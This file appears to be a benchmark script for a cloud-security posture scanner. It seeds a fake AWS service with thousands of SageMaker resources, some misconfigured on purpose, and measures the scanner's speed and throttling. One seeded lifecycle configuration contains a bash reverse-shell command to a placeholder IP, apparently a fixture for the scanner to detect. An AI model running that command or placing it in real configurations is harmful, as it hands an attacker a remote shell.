/**
 * posture at scale (issue 21): 2,000 notebook instances, 500 endpoints and 200 lifecycle configurations
 * spread over 4 regions (and 200 training jobs, their execution role read from IAM), served by the wire-level fake with a per-operation rate limit; runs the built
 * binary and reports the wall time, the calls made and how many were throttled.
 * Run: npm run build && npx tsx test/bench/posture-scale.ts [--rate-limit N]
 */
import { startFakeAws } from '../fake-aws/server.js';
import { createEc2 } from '../fake-aws/services/ec2.js';
import { createIam } from '../fake-aws/services/iam.js';
import { createSageMakerInventory } from '../fake-aws/services/sagemaker-inventory.js';
import { createSts } from '../fake-aws/services/sts.js';
import { runCli } from '../e2e/run-cli.js';

const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'ap-southeast-2'];
const arg = process.argv.indexOf('--rate-limit');
const rateLimit = arg > 0 ? Number(process.argv[arg + 1]) : 10;

const sm = createSageMakerInventory({ rateLimit });
const fake = await startFakeAws();
fake.register(sm.module);
fake.register(createSts());
fake.register(createEc2(fake.regions));
// The execution role every seeded resource runs as (IAM is read once, in the home region).
const iam = createIam();
iam.seed.role('SageMakerExecution');
fake.register(iam.module);
const per = (n: number) => n / REGIONS.length;
for (const region of REGIONS) {
  for (let i = 0; i < per(200); i++) sm.seed.lifecycleConfig(region, `lcc-${i}`, { onStart: [i === 7 ? 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' : 'pip install --quiet pandas'] });
  for (let i = 0; i < per(2000); i++) sm.seed.notebook(region, `nb-${i}`, i % 10 === 0 ? { RootAccess: 'Enabled', NotebookInstanceLifecycleConfigName: `lcc-${i % per(200)}` } : {});
  for (let i = 0; i < per(500); i++) sm.seed.endpoint(region, `ep-${i}`, i % 25 === 0 ? { config: { KmsKeyId: undefined } } : {});
  for (let i = 0; i < per(200); i++) sm.seed.job(region, 'training', `tj-${i}`, i % 20 === 0 ? { VpcConfig: undefined } : {});
}
const started = Date.now();
// Asynchronous: the fake answers from this process, so it must not be blocked while the binary runs.
const r = await runCli(['posture', '--endpoint-url', fake.url, '--regions', REGIONS.join(','), '--output', 'json']);
const wall = (Date.now() - started) / 1000;
const doc = JSON.parse(r.stdout) as { findings: unknown[]; resources: Record<string, number>; calls: { total: number; retries: number; throttled: number; byOperation: Record<string, number> }; partial: boolean };
const fakeThrottled = fake.stats.calls.filter((c) => c.outcome === 'throttled').length;
const perRegionMax = Object.fromEntries(REGIONS.map((region) => [region, fake.stats.maxPerSecond({ service: 'sagemaker', region })]));
console.log(JSON.stringify({ exit: r.code, wallSeconds: wall, resources: doc.resources, findings: doc.findings.length, calls: doc.calls, fakeCalls: fake.stats.calls.length, fakeThrottled, busiestSecondPerRegion: perRegionMax, partial: doc.partial }, null, 2));
if (r.code !== 0) console.error(r.stderr);
await fake.close();
